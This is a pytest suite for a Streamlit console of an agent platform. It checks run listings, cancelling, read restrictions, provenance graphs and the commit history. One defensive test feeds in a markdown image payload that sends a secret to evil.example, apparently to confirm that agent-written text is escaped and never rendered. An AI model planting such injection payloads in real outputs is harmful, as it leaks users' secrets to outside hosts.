"""Every page of the console draws without an exception: on a full and an empty board, and where no server answers."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from streamlit.testing.v1 import AppTest

import agentsys.ui
from agentsys.blackboard.effects import EffectClass, EffectIntent
from agentsys.blackboard.labels import Label, Readers
from agentsys.runs import RunRecord
from agentsys.ui.boards import RECORDED
from agentsys.ui.screens.addresses import BLACKBOARD_PAGE, RUN_PAGE, RUNS_PAGE
from tests.http.conftest import TOKEN, served
from tests.ui.conftest import forget_the_client

ASKED = {"question": "How many are there?", "number": 21}
Browse = Callable[..., AppTest]
SCREENS = [RUNS_PAGE, RUN_PAGE, BLACKBOARD_PAGE]


def open_page(screen: str = RUNS_PAGE, **parameters: str) -> AppTest:
    """Open one page as a browser that is new to the console opens its URL."""
    app = AppTest.from_file(f"{agentsys.ui.__path__[0]}/app.py", default_timeout=30)
    app.switch_page(screen)
    app.query_params.update(parameters)
    app.run()
    assert [error.value for error in app.exception] == []
    return app


@pytest.fixture
def browse(recorded, monkeypatch) -> Iterator[Browse]:
    """Serve the recorded board and return what opens a page on it."""
    with served(recorded.runtime) as client:
        monkeypatch.setenv("AGENTSYS_URL", str(client.base_url))
        monkeypatch.setenv("AGENTSYS_TOKEN", TOKEN)
        yield open_page
        forget_the_client()


def said(app: AppTest) -> str:
    """Return all text of the page without the backslashes of escaping."""
    pieces = [*app.markdown, *app.caption, *app.info, *app.error, *app.warning, *app.subheader, *app.text]
    return "\n".join(str(piece.value) for piece in pieces).replace("\\", "")


@pytest.mark.parametrize("screen", SCREENS)
def test_a_server_that_is_away_is_told(screen, monkeypatch):
    monkeypatch.setenv("AGENTSYS_URL", "http://127.0.0.1:9")
    assert "AGS-0708" in said(open_page(screen, run="x"))
    forget_the_client()


@pytest.mark.parametrize("screen", SCREENS)
def test_a_wrong_token_is_told(browse, monkeypatch, screen):
    monkeypatch.setenv("AGENTSYS_TOKEN", "wrong")
    forget_the_client()
    assert "AGS-0701" in said(browse(screen, run="x"))


@pytest.mark.parametrize("screen", SCREENS)
def test_an_empty_board_names_the_command(browse, screen):
    app = browse(screen, run="x")
    assert "is empty" in said(app)
    assert "agentsys ask" in app.code[0].value
    assert "no recorded run" in said(app)


def test_a_recorded_run_stands_in_until_there_is_one(recorded, monkeypatch):
    with served(recorded.runtime, recorded=RECORDED) as client:
        monkeypatch.setenv("AGENTSYS_URL", str(client.base_url))
        monkeypatch.setenv("AGENTSYS_TOKEN", TOKEN)
        app = open_page()
        assert "a recorded run" in said(app)
        assert len(app.page_link) == 2
        recorded.run("fails", "x")
        app = open_page()
        assert "a recorded run" not in said(app)
        assert len(app.page_link) == 1
        forget_the_client()


def test_runs_are_listed_with_status_and_label(browse, recorded):
    recorded.run("question", ASKED)
    recorded.run("fails", "x")
    app = browse()
    assert [link.label.replace("\\", "") for link in app.page_link] == ["x", "How many are there?"]
    assert "[failed]" in said(app)
    assert "[done]" in said(app)
    assert "readable by user:owner" in said(app)


def test_runs_are_filtered_by_the_url(browse, recorded):
    recorded.run("question", ASKED)
    recorded.run("fails", "x")
    for parameters, shown in [
        ({"status": "failed"}, ["x"]),
        ({"status": "cancelled"}, []),
        ({"workflow": "question"}, ["How many are there?"]),
        ({"search": "HOW MANY"}, ["How many are there?"]),
    ]:
        app = browse(**parameters)
        assert [link.label.replace("\\", "") for link in app.page_link] == shown, parameters


def test_more_runs_are_shown_on_demand(browse, recorded):
    for number in range(14):
        recorded.run("fails", number)
    app = browse()
    assert len(app.page_link) == 12
    app.button[0].click().run()
    assert len(app.page_link) == 14
    assert not app.button


def running(board, run: str = "held") -> None:
    transaction = board.begin("runtime", run=run)
    RunRecord(run, "question", "what is held", Label.trusted(), 1.0, None).write(transaction)
    board.commit(transaction)


@pytest.mark.parametrize(("screen", "parameters"), [(RUNS_PAGE, {}), (RUN_PAGE, {"run": "held"})])
def test_a_running_run_is_cancelled_with_a_button(browse, recorded, screen, parameters):
    running(recorded.board)
    app = browse(screen, **parameters)
    (button,) = [button for button in app.button if button.label == "Cancel"]
    assert "agentsys runs cancel held" in button.help
    button.click().run()
    assert not app.exception
    assert "[cancelled]" in said(app)
    assert [button for button in app.button if button.label == "Cancel"] == []


def test_a_run_is_addressed_by_its_url(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(RUN_PAGE, run=run)
    text = said(app)
    assert "How many are there?" in text
    assert "### 42" in text
    assert app.code[0].value == "SELECT 2 * 21"
    tables = [table.value.to_dict("records") for table in app.dataframe]
    assert {"family": "airports", "files": "airports.csv", "columns": "state, name"} in tables[0]
    assert [bid["agent"] for bid in tables[1]] == ["eager", "crashing"]
    assert "out of paper" in text


def test_a_failed_run_shows_why(browse, recorded):
    app = browse(RUN_PAGE, run=recorded.run("fails", "x").run)
    assert "nothing to divide" in said(app)


def test_an_unknown_run_is_told(browse, recorded):
    recorded.run("fails", "x")
    app = browse(RUN_PAGE, run="nobody")
    assert "AGS-0601" in said(app)


@pytest.mark.parametrize("view", ["Result", "Graph", "Timeline", "Provenance"])
def test_what_the_owner_may_not_read_is_on_no_page(browse, recorded, view):
    label = Label.trusted("user:ann", Readers.of("user:ann"))
    run = recorded.run("question", {"question": "about the pelican", "number": 3}, label=label).run
    pages = [(RUN_PAGE, {"run": run, "view": view}), (RUNS_PAGE, {}), (BLACKBOARD_PAGE, {})]
    for screen, parameters in [*pages, (BLACKBOARD_PAGE, {"show": "Entries"})]:
        app = browse(screen, **parameters)
        tables = "\n".join(str(table.value) for table in app.dataframe)
        charts = "\n".join(str(found.proto) for found in [*app.get("graphviz_chart"), *app.get("vega_lite_chart")])
        assert "pelican" not in said(app) + tables + charts
        assert "user:ann" in said(app) or "lets others read it" in said(app)


def test_a_timeline_shows_each_step(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(RUN_PAGE, run=run, view="Timeline")
    (chart,) = app.get("vega_lite_chart") or app.get("arrow_vega_lite_chart")
    assert "model call" in str(chart.proto)


def test_the_provenance_of_an_answer_says_where_its_label_came_from(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(RUN_PAGE, run=run, view="Provenance")
    assert "- user:owner: came in with run " in said(app)
    (chart,) = app.get("graphviz_chart")
    assert "penwidth=3" in chart.proto.spec
    assert "answered" not in chart.proto.spec
    app.toggle[0].set_value(True).run()
    (chart,) = app.get("graphviz_chart")
    assert "answered" in chart.proto.spec
    (choice,) = [box for box in app.selectbox if box.label == "Value"]
    bid = (f"runs/{run}/bids/main#1:0000", "eager")
    choice.select(bid).run()
    assert not app.exception
    assert (app.query_params["topic"], app.query_params["key"]) == bid
    assert len(app.get("download_button")) == 1
    (chart,) = browse(RUN_PAGE, run=run, topic=bid[0], key=bid[1]).get("graphviz_chart")
    assert "volunteered" in chart.proto.spec
    assert "AGS-0706" in said(browse(RUN_PAGE, run=run, view="Provenance", topic="no", key="such"))


def commit_numbers(app: AppTest) -> list[int]:
    """Return the numbers in the first column of the table of commits; a lost transaction has none."""
    (table,) = [piece.value for piece in app.markdown if piece.value.startswith("| commit |")]
    cells = [line.split("|")[1].strip() for line in table.splitlines()[2:]]
    return [int(cell.rsplit(" ")[-1].replace(",", "")) for cell in cells if cell]


def test_commits_are_listed_and_filtered(browse, recorded):
    first = recorded.run("question", ASKED).run
    other = recorded.run("fails", "x").run
    app = browse(BLACKBOARD_PAGE)
    assert commit_numbers(app) == list(range(recorded.board.head, 0, -1))
    of_run = [commit.seq for commit in recorded.board.log(run=first)]
    assert commit_numbers(browse(BLACKBOARD_PAGE, run=first)) == of_run[::-1]
    found = commit_numbers(browse(BLACKBOARD_PAGE, search=other))
    assert found == [commit.seq for commit in recorded.board.log(run=other)][::-1]
    assert "No commit is like that" in said(browse(BLACKBOARD_PAGE, search="no such text"))


def test_a_commit_is_addressed_by_its_url(browse, recorded):
    recorded.run("question", ASKED)
    app = browse(BLACKBOARD_PAGE, commit="2")
    assert "Commit 2 by agent:question" in said(app)
    app = browse(BLACKBOARD_PAGE, commit="999")
    assert "not 999" in said(app)


def test_the_slider_goes_back_to_a_commit(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(BLACKBOARD_PAGE, at="3")
    assert commit_numbers(app) == [3, 2, 1]
    (slider,) = app.slider
    assert (slider.value, slider.max) == (3, recorded.board.head)
    slider.set_value(2).run()
    assert commit_numbers(app) == [2, 1]
    app = browse(BLACKBOARD_PAGE, at="1", show="Entries")
    assert "3 entries after commit 1" in said(app)
    assert f"runs | {run} | 1 |" in said(app)
    assert "not 999" in said(browse(BLACKBOARD_PAGE, at="999"))


def test_two_versions_of_an_entry_are_compared(browse, recorded):
    run = recorded.run("question", ASKED).run
    app = browse(BLACKBOARD_PAGE, topic="runs", key=run)
    (difference,) = [block.value for block in app.code]
    assert '-  "status": "running"' in difference
    assert '+  "status": "done"' in difference
    app = browse(BLACKBOARD_PAGE, topic="runs", key="nobody")
    assert "never had this entry" in said(app)


def test_what_agents_wrote_never_becomes_markdown(browse, recorded):
    hostile = "![x](http://evil.example/?secret)"
    recorded.run("fails", hostile)
    transaction = recorded.board.begin("user:owner")
    transaction.put("notes", hostile, hostile, type="note", label=Label.trusted())
    recorded.board.commit(transaction)
    for app in (browse(), browse(BLACKBOARD_PAGE), browse(BLACKBOARD_PAGE, show="Entries")):
        shown = [*(link.label for link in app.page_link), *(str(piece.value) for piece in app.markdown)]
        assert not any("](http" in text for text in shown)
        assert any(r"\!\[x\]\(http\:" in text for text in shown)


def test_the_console_writes_nothing(browse, recorded):
    run = recorded.run("question", ASKED).run
    head = recorded.board.head
    for screen in SCREENS:
        browse(screen, run=run)
    assert recorded.board.head == head
    assert recorded.board.epoch == 1


def test_a_call_in_doubt_shows_the_command_that_settles_it(recorded, browse):
    result = recorded.run("question", ASKED)
    transaction = recorded.board.begin("runtime", run=result.run)
    intent = EffectIntent("e1", result.run, "main#1:0009", "send", EffectClass.IRREVERSIBLE, {}, Label.trusted())
    transaction.plan_effect(intent)
    recorded.board.commit(transaction)
    recorded.board.start_effect("e1")
    assert not any("settle" in block.value for block in browse(RUN_PAGE, run=result.run).code)
    recorded.board.finish_effect("e1", "in_doubt", {"error": "the process died during the call"}, Label.trusted())
    assert any("agentsys effects settle e1" in block.value for block in browse(RUN_PAGE, run=result.run).code)
